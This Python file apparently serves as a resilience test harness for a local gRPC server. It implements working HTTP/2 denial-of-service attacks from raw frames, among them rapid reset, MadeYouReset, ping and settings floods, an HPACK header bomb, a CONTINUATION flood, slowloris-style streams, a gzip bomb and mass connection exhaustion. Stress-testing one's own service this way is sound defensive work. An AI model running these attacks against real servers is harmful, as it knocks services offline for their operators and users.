"""What a hostile peer sends: each attack is an endless run of pieces, made of raw HTTP/2 frames.

`python http2_attacks.py NAME PORT SECONDS` runs one, and prints how many pieces it sent and how often it was cut off.
"""

import gzip
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import count, islice

from amends.v1 import conversation_pb2
from amends.v1 import empathy_service_pb2 as pb
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HEADERS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/amends.v1.EmpathyService/ScoreReply"),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
)
_MOST_STREAMS = 1 << 30
_WHOLE = {"END_HEADERS"}
_LAST = {"END_HEADERS", "END_STREAM"}


def request(text: str = "Where is my parcel?") -> bytes:
    """A message that is judged."""
    turn = conversation_pb2.Turn(role=1, text=text)  # type: ignore[arg-type]
    return pb.ScoreReplyRequest(
        turns=[turn], reply=[conversation_pb2.ReplyTurn(text="I am sorry.")]
    ).SerializeToString()


def framed(message: bytes, *, compressed: bool = False) -> bytes:
    """A message as gRPC sends it."""
    return bytes([compressed]) + len(message).to_bytes(4, "big") + message


@cache
def opening(*, window: int = 65_535) -> bytes:
    """The preface and the settings of a client that takes `window` bytes of a stream."""
    connection = H2Connection(H2Configuration(client_side=True))
    connection.local_settings.update({SettingCodes.INITIAL_WINDOW_SIZE: window})
    connection.initiate_connection()
    return connection.data_to_send()


ACKNOWLEDGED = SettingsFrame(0, flags={"ACK"}).serialize()
"""Until the server's settings are acknowledged, gRPC lets a connection open few streams."""


def _bytes(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def _flags(frame: Frame, flags: set[str]) -> Frame:
    for flag in flags:
        frame.flags.add(flag)
    return frame


def _headers(stream: int, flags: set[str], *more: tuple[str, str], path: str = "") -> Frame:
    return _flags(HeadersFrame(stream, _encoded(more, path)), flags)


@cache
def _encoded(more: tuple[tuple[str, str], ...], path: str) -> bytes:
    fields = [(name, path if path and name == ":path" else value) for name, value in HEADERS]
    return Encoder().encode([*fields, *more])


def _streams() -> Iterator[int]:
    return iter(range(1, _MOST_STREAMS, 2))


def _data(stream: int, content: bytes, *, last: bool = False) -> bytes:
    size = 16_384
    pieces = [content[at : at + size] for at in range(0, len(content), size)] or [b""]
    frames = [DataFrame(stream, piece) for piece in pieces]
    if last:
        frames[-1].flags.add("END_STREAM")
    return _bytes(*frames)


def rapid_reset() -> Iterator[bytes]:
    """Asks and takes it back at once (CVE-2023-44487)."""
    for stream in _streams():
        yield _bytes(_headers(stream, _WHOLE), RstStreamFrame(stream, error_code=8))


def asked_reset() -> Iterator[bytes]:
    """Sends whole requests, and takes each back once it is sent."""
    for stream in _streams():
        asked = _bytes(_headers(stream, _WHOLE)) + _data(stream, framed(request(f"Where is {stream}?")), last=True)
        yield asked + _bytes(RstStreamFrame(stream, error_code=8))


def made_you_reset() -> Iterator[bytes]:
    """Has the server reset each stream by breaking its rules (CVE-2025-8671)."""
    for stream in _streams():
        yield _bytes(_headers(stream, _WHOLE), WindowUpdateFrame(stream, window_increment=2**31 - 1))


def ping_flood() -> Iterator[bytes]:
    """Pings and pings (CVE-2019-9512)."""
    for number in count():
        yield _bytes(PingFrame(0, opaque_data=number.to_bytes(8, "big")))


def settings_flood() -> Iterator[bytes]:
    """Changes its settings again and again: each change wants an answer (CVE-2019-9515)."""
    for number in count():
        yield _bytes(SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 1 + number % 65_535}))


def empty_frames() -> Iterator[bytes]:
    """Data frames without data, that never end a stream (CVE-2019-9518)."""
    yield _bytes(_headers(1, _WHOLE))
    while True:
        yield _bytes(DataFrame(1, b"")) * 100


def priority_flood() -> Iterator[bytes]:
    """Moves streams about in the tree of priorities (CVE-2019-9513)."""
    for stream in _streams():
        yield _bytes(PriorityFrame(stream, depends_on=stream + 2, stream_weight=stream % 256))


def header_bomb() -> Iterator[bytes]:
    """One large header in the table, then thousands of one-byte references to it (CVE-2016-6581)."""
    encoder = Encoder()
    first = encoder.encode([*HEADERS, ("bomb", "b" * 4000)])
    reference = bytes([0x80 | 62])  # the newest entry of the dynamic table
    for stream in _streams():
        yield _bytes(_flags(HeadersFrame(stream, first if stream == 1 else reference * 16_000), _LAST))


def many_headers() -> Iterator[bytes]:
    """Requests with far more metadata than is taken."""
    more = [(f"x-canary-{number}", "v" * 60) for number in range(150)]
    for stream in _streams():
        yield _bytes(_headers(stream, _LAST, *more))


def continuation_flood() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    yield _bytes(_headers(1, set()))
    literal = b"\x00" + b"\x08x-filler" + b"\x7f\x81\x01" + b"v" * 256
    while True:
        yield _bytes(ContinuationFrame(1, literal * 50))


def slow_writer() -> Iterator[bytes]:
    """Announces messages of nearly 4 MB on many streams, and sends a few bytes of each now and then."""
    streams = range(1, 201, 2)
    yield _bytes(*(_headers(stream, _WHOLE) for stream in streams))
    yield b"".join(_data(stream, b"\x00" + ((4 << 20) - 1).to_bytes(4, "big")) for stream in streams)
    while True:
        yield b"".join(_data(stream, b"\x0a") for stream in streams)


def large_and_unfinished() -> Iterator[bytes]:
    """Announces a message of nearly 4 MB, sends what the first window takes of it, and no more."""
    yield _bytes(_headers(1, _WHOLE))
    yield _data(1, (b"\x00" + ((4 << 20) - 1).to_bytes(4, "big")).ljust(60_000, b"\x00"))
    yield from idle()


def half_open_streams() -> Iterator[bytes]:
    """Opens streams and leaves them be."""
    for stream in _streams():
        yield _bytes(_headers(stream, _WHOLE))


def slow_reader() -> Iterator[bytes]:
    """Asks for the largest answer over and over, and never takes more than a few bytes of one."""
    for stream in _streams():
        asked = _headers(stream, _WHOLE, path="/amends.v1.PlaybookService/GetPlaybook")
        yield _bytes(asked) + _data(stream, framed(b"\x0a\x07unified"), last=True)


def gzip_bomb() -> Iterator[bytes]:
    """Messages of 48 KB, which one window takes, that unpack to 48 MB."""
    bomb = framed(_bomb(), compressed=True)
    for stream in _streams():
        headers = _headers(stream, _WHOLE, ("grpc-encoding", "gzip"))
        yield _bytes(headers) + _data(stream, bomb, last=True)


@cache
def _bomb() -> bytes:
    return gzip.compress(bytes(48 << 20), 9)


def idle() -> Iterator[bytes]:
    """Nothing, after a fine opening."""
    while True:
        yield b""


def noise() -> Iterator[bytes]:
    """Frames of every kind, known and unknown, with random contents."""
    for _ in count():
        body = os.urandom(os.urandom(1)[0])
        stream = int.from_bytes(os.urandom(4), "big") & 0x7FFFFFFF
        yield len(body).to_bytes(3, "big") + os.urandom(2) + stream.to_bytes(4, "big") + body


@dataclass(frozen=True, slots=True)
class Attack:
    """How an attack is carried out."""

    pieces: Callable[[], Iterator[bytes]]
    connections: int = 1
    at_once: int = 1
    """Pieces that a connection sends in one go."""
    pause_s: float = 0.0
    """After each round over the connections."""
    reads: bool = True
    window: int = 65_535
    greets: bool = True
    """Whether it opens as HTTP/2 does, or with half of that."""


ATTACKS = {
    "rapid_reset": Attack(rapid_reset, at_once=16),
    "asked_reset": Attack(asked_reset, at_once=16),
    "made_you_reset": Attack(made_you_reset, at_once=16),
    "ping_flood": Attack(ping_flood, at_once=16),
    "settings_flood": Attack(settings_flood, at_once=16),
    "empty_frames": Attack(empty_frames),
    "priority_flood": Attack(priority_flood, at_once=16),
    "header_bomb": Attack(header_bomb),
    "many_headers": Attack(many_headers),
    "continuation_flood": Attack(continuation_flood),
    "slow_writer": Attack(slow_writer, connections=20, pause_s=0.2),
    "large_and_unfinished": Attack(large_and_unfinished, connections=300, pause_s=0.2),
    "half_open_streams": Attack(half_open_streams, connections=4, at_once=16),
    "slow_reader": Attack(slow_reader, connections=4, at_once=16, reads=False, window=16),
    "gzip_bomb": Attack(gzip_bomb),
    "connections": Attack(idle, connections=4000, pause_s=0.5),
    "half_handshakes": Attack(idle, connections=2000, pause_s=0.5, greets=False),
    "noise": Attack(noise),
}


class _Peer:
    """One connection. Reads and throws away what comes, unless it is one that does not read."""

    def __init__(self, port: int, attack: Attack) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self._socket.setblocking(False)
        self._reads = attack.reads
        self._pieces, self._at_once = attack.pieces(), attack.at_once
        whole = opening(window=attack.window)
        self._unsent = whole if attack.greets else whole[:12]
        self._acknowledges = attack.greets

    def advance(self) -> int:
        """Sends what the other side takes; gives how many more pieces are under way. Raises OSError once it hung up."""
        if self._acknowledges or self._reads:
            self._read()
        sent = 0
        if not self._unsent:
            pieces = list(islice(self._pieces, self._at_once))
            self._unsent, sent = b"".join(pieces), len(pieces)
        try:
            self._unsent = self._unsent[self._socket.send(self._unsent) :] if self._unsent else b""
        except BlockingIOError:
            time.sleep(0.001)
        return sent

    def _read(self) -> None:
        try:
            if not self._socket.recv(65_536):
                raise ConnectionResetError
        except BlockingIOError:
            return
        if self._acknowledges:  # the settings come first
            self._unsent += ACKNOWLEDGED
            self._acknowledges = False

    def close(self) -> None:
        self._socket.close()


def run(attack: Attack, port: int, seconds: float) -> tuple[int, int]:
    """Attacks for a time; gives how many pieces were sent, and how often the server hung up or did not answer."""
    until, sent, ended = time.monotonic() + seconds, 0, 0
    peers: list[_Peer | None] = [None] * attack.connections
    while time.monotonic() < until:
        for index in range(len(peers)):
            peer = peers[index]
            try:
                if peer is None:
                    peer = peers[index] = _Peer(port, attack)
                    sent += attack.pieces is idle
                sent += peer.advance()
            except OSError:
                ended += 1
                if peer is not None:
                    peer.close()
                peers[index] = None
                time.sleep(0.001)
            if time.monotonic() >= until:
                break
        time.sleep(attack.pause_s)
    for peer in peers:
        if peer is not None:
            peer.close()
    return sent, ended


if __name__ == "__main__":
    # As if on a machine of its own: it gets what the others leave, and gives it back at once when they want it.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    name, port, seconds = sys.argv[1:]
    print("begins", flush=True)
    print(*run(ATTACKS[name], int(port), float(seconds)))
